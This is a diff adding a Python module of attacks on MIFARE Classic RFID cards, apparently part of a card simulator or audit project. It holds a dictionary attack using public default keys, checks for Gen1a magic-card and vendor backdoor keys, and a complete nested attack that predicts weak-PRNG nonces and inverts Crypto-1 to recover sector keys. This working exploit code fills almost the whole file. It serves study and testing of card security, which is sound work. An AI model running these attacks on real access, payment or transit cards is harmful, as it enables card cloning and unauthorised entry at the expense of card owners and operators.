@@ -1,0 +1,198 @@
+"""Attacks and probes on MIFARE Classic cards through the card interface only (frames, as a reader sees them).
+
+- dictionary: try the public default keys on every sector;
+- PRNG class from collected nonces (weak 16-bit LFSR, hardened, static);
+- magic (Gen1a 40/43 backdoor) and vendor backdoor key (FM11RF08S-like) detection;
+- nested: from one known sector key of a weak-PRNG card, recover other sectors' keys by predicting the tag
+  nonce of a nested authentication and inverting Crypto-1 on its keystream.
+"""
+
+from __future__ import annotations
+
+import enum
+import os
+from collections.abc import Iterable
+
+import numpy as np
+
+from audit.crypto1_recovery import lfsr_recovery32
+from cardsim.crypto1 import bebit, encrypt_bytes, is_weak_nonce, odd_parity, prng_successor
+from cardsim.mifare import ACK, BACKDOOR_KEY, Frame
+from terminals.m1 import M1Error, M1Link, M1Reader
+
+# The head of the public default-key dictionary (proxmark3 / libnfc lists).
+DEFAULT_KEYS = (
+    0xFFFFFFFFFFFF,
+    0xA0A1A2A3A4A5,
+    0xD3F7D3F7D3F7,
+    0x000000000000,
+    0xB0B1B2B3B4B5,
+    0x4D3A99C351DD,
+    0x1A982C7E459A,
+    0xAABBCCDDEEFF,
+    0x714C5C886E97,
+    0x587EE5F9350F,
+    0xA0478CC39091,
+    0x533CB6C723F6,
+    0x8FD0A4F256E9,
+)
+
+
+class PrngClass(enum.Enum):
+    """How a card's tag nonces behave."""
+
+    WEAK = "weak"
+    HARDENED = "hardened"
+    STATIC = "static"
+
+
+class AttackFailed(Exception):
+    """The attack cannot work on this card (e.g. hardened PRNG) or found no key."""
+
+
+def try_key(link: M1Link, uid: int, block: int, key: int, key_type: int) -> bool:
+    """One fresh authentication attempt."""
+    link.power_on()
+    try:
+        M1Reader(link, uid).authenticate(block, key, key_type)
+    except M1Error:
+        return False
+    return True
+
+
+def dictionary_attack(
+    link: M1Link, uid: int, keys: Iterable[int] = DEFAULT_KEYS, sectors: Iterable[int] = range(16)
+) -> dict[tuple[int, int], int]:
+    """(sector, 0x60|0x61) -> key for every sector key found in ``keys``."""
+    found: dict[tuple[int, int], int] = {}
+    candidates = list(keys)
+    for sector in sectors:
+        for key_type in (0x60, 0x61):
+            for key in candidates:
+                if try_key(link, uid, sector * 4 + 3, key, key_type):
+                    found[(sector, key_type)] = key
+                    break
+    return found
+
+
+def collect_nonces(link: M1Link, count: int, block: int = 3) -> list[int]:
+    """Tag nonces of ``count`` plain authentication requests (each after a field reset)."""
+    nonces = []
+    for _ in range(count):
+        link.power_on()
+        answer = link.transceive(Frame(bytes([0x60, block])))
+        if answer is None or len(answer.data) != 4:
+            raise AttackFailed("the card does not answer authentication requests")
+        nonces.append(int.from_bytes(answer.data))
+    return nonces
+
+
+def classify_prng(nonces: list[int]) -> PrngClass:
+    """Static when every nonce is the same; weak when all follow the 16-bit LFSR; hardened otherwise."""
+    if len(set(nonces)) == 1 and len(nonces) > 1:
+        return PrngClass.STATIC
+    if all(is_weak_nonce(n) for n in nonces):
+        return PrngClass.WEAK
+    return PrngClass.HARDENED
+
+
+def has_gen1a_backdoor(link: M1Link) -> bool:
+    """True when the card acknowledges the 7-bit 40 then 43 commands (Gen1a magic)."""
+    link.power_on()
+    first = link.transceive(Frame(b"\x40", bits=7))
+    second = link.transceive(Frame(b"\x43", bits=7)) if first is not None else None
+    link.power_on()
+    return all(f is not None and f.bits == 4 and f.data[0] == ACK for f in (first, second))
+
+
+def accepts_backdoor_key(link: M1Link, uid: int, block: int = 3) -> bool:
+    """True when the FM11RF08S-like vendor key opens the sector through auth command 64."""
+    return try_key(link, uid, block, BACKDOOR_KEY, 0x64)
+
+
+def _distance(start: int, end: int, limit: int = 65536) -> int | None:
+    x = start
+    for n in range(limit):
+        if x == end:
+            return n
+        x = prng_successor(x, 1)
+    return None
+
+
+def _nested_nonce(
+    link: M1Link, uid: int, block: int, key: int, key_type: int, target: tuple[int, int]
+) -> tuple[int, int, tuple[int, ...]]:
+    """Authenticate with the known key, then request the target: (plain nT of the first, {nT}, parities)."""
+    link.power_on()
+    reader = M1Reader(link, uid)
+    reader.authenticate(block, key, key_type)
+    assert reader.cipher is not None
+    enc, parities = encrypt_bytes(reader.cipher, bytes([target[1], target[0]]))
+    answer = link.transceive(Frame(enc, tuple(parities)))
+    if answer is None or len(answer.data) != 4 or len(answer.parity) != 4:
+        raise AttackFailed("no encrypted nonce for the nested authentication")
+    return reader.last_nt, int.from_bytes(answer.data), answer.parity
+
+
+def nested_attack(
+    link: M1Link,
+    uid: int,
+    known: tuple[int, int, int],
+    target: tuple[int, int],
+    window: int = 3,
+    attempts: int = 4,
+) -> int:
+    """Recover the key of ``target`` = (block, key type) from ``known`` = (block, key, key type).
+
+    Needs a weak PRNG: the nonce of the nested authentication is predicted from the plain one and the
+    distance measured on the known sector, candidates are filtered by the leaked parity bits, and each
+    surviving keystream is inverted (lfsr_recovery32) and rolled back to key candidates. Candidate sets
+    of several attempts are intersected until one key is left, which is then checked by authenticating.
+    """
+    known_block, known_key, known_type = known
+    nonces = collect_nonces(link, 3, known_block)
+    if classify_prng(nonces) is not PrngClass.WEAK:
+        raise AttackFailed("nested attack needs a weak PRNG; this card's nonces are not predictable")
+    # Calibrate: distance between a plain and a nested nonce on the sector whose key we know.
+    link.power_on()
+    reader = M1Reader(link, uid)
+    reader.authenticate(known_block, known_key, known_type)
+    first = reader.last_nt
+    reader.authenticate(known_block, known_key, known_type)
+    distance = _distance(first, reader.last_nt)
+    if distance is None:
+        raise AttackFailed("could not measure the nonce distance")
+
+    survivors: np.ndarray | None = None
+    for _ in range(attempts):
+        plain_nt, enc_nt, parities = _nested_nonce(link, uid, known_block, known_key, known_type, target)
+        keys = []
+        for delta in range(-window, window + 1):
+            if distance + delta < 0:
+                continue
+            guess = prng_successor(plain_nt, distance + delta)
+            ks = enc_nt ^ guess
+            guess_bytes = guess.to_bytes(4)
+            if any(parities[i] ^ odd_parity(guess_bytes[i]) != bebit(ks, 8 * (i + 1)) for i in range(3)):
+                continue
+            states = lfsr_recovery32(ks, guess ^ uid)
+            last = parities[3] ^ odd_parity(guess_bytes[3])
+            keep = states.peek() == last
+            states.odd, states.even = states.odd[keep], states.even[keep]
+            states.rollback_word(guess ^ uid)
+            keys.append(np.unique(states.lfsr()))
+        found = np.unique(np.concatenate(keys)) if keys else np.array([], dtype=np.uint64)
+        survivors = found if survivors is None else np.intersect1d(survivors, found)
+        if len(survivors) <= 1:
+            break
+    if survivors is None or len(survivors) == 0:
+        raise AttackFailed("no key candidate survived")
+    for key in survivors[:64]:
+        if try_key(link, uid, target[0], int(key), target[1]):
+            return int(key)
+    raise AttackFailed(f"{len(survivors)} candidates left, none authenticates")
+
+
+def random_uid() -> int:
+    """A random 4-byte UID (for simulated fleets)."""
+    return int.from_bytes(os.urandom(4))
